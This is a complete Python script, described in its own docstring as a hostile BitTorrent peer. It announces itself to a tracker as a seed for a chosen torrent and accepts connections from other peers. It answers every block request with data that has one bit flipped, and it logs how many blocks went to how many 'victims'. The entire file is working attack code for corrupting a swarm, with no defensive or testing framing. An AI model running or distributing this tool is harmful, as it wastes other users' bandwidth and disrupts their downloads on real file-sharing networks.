#!/usr/bin/env python3
"""A hostile BitTorrent peer: announces itself as a seed, lets everybody download and sends every block with one bit wrong.
peer.py FILE INFO_HASH/PIECE_LENGTH TRACKER OWN_IP [PORT]
Prints 'lying' once it has announced, and 'sent N blocks to M peers' as it goes."""
import os
import socket
import struct
import sys
import threading
import urllib.parse
import urllib.request

path, torrent, tracker, own_ip = sys.argv[1:5]
port = int(sys.argv[5]) if len(sys.argv) > 5 else 6881
info_hash, piece_length = bytes.fromhex(torrent.split("/")[0]), int(torrent.split("/")[1])
content = open(path, "rb").read()
pieces = (len(content) + piece_length - 1) // piece_length
peer_id = b"-XX0001-" + os.urandom(12)
hello = b"\x13BitTorrent protocol" + bytes(8) + info_hash + peer_id
sent, victims, lock = [0], set(), threading.Lock()


def take(connection, length):
    data = b""
    while len(data) < length:
        more = connection.recv(length - len(data))
        if not more:
            raise ConnectionError
        data += more
    return data


def frame(kind, body=b""):
    return struct.pack(">IB", len(body) + 1, kind) + body


def bitfield():
    bits = bytearray(b"\xff" * ((pieces + 7) // 8))
    if pieces % 8:
        bits[-1] = 0xFF << (8 - pieces % 8) & 0xFF
    return frame(5, bytes(bits))


def serve(connection, address):
    try:
        connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        take(connection, 68)
        connection.sendall(hello + bitfield() + frame(1))
        while True:
            (length,) = struct.unpack(">I", take(connection, 4))
            body = take(connection, length)
            if length == 13 and body[0] == 6:
                piece, begin, size = struct.unpack(">III", body[1:])
                block = bytearray(content[piece * piece_length + begin :][:size])
                block[len(block) // 2] ^= 1
                connection.sendall(struct.pack(">IBII", 9 + len(block), 7, piece, begin) + bytes(block))
                with lock:
                    sent[0] += 1
                    victims.add(address[0])
                    print(f"sent {sent[0]} blocks to {len(victims)} peers", flush=True)
    except (ConnectionError, OSError):
        pass
    finally:
        connection.close()


listener = socket.socket()
listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
listener.bind((own_ip, port))
listener.listen()
query = urllib.parse.urlencode({
    "info_hash": info_hash, "peer_id": peer_id, "port": port, "uploaded": 0, "downloaded": 0, "left": 0,
    "compact": 1, "event": "started"}, quote_via=urllib.parse.quote)
urllib.request.urlopen(f"{tracker}/announce?{query}", timeout=10).read()
print("lying", flush=True)
while True:
    connection, address = listener.accept()
    threading.Thread(target=serve, args=(connection, address), daemon=True).start()
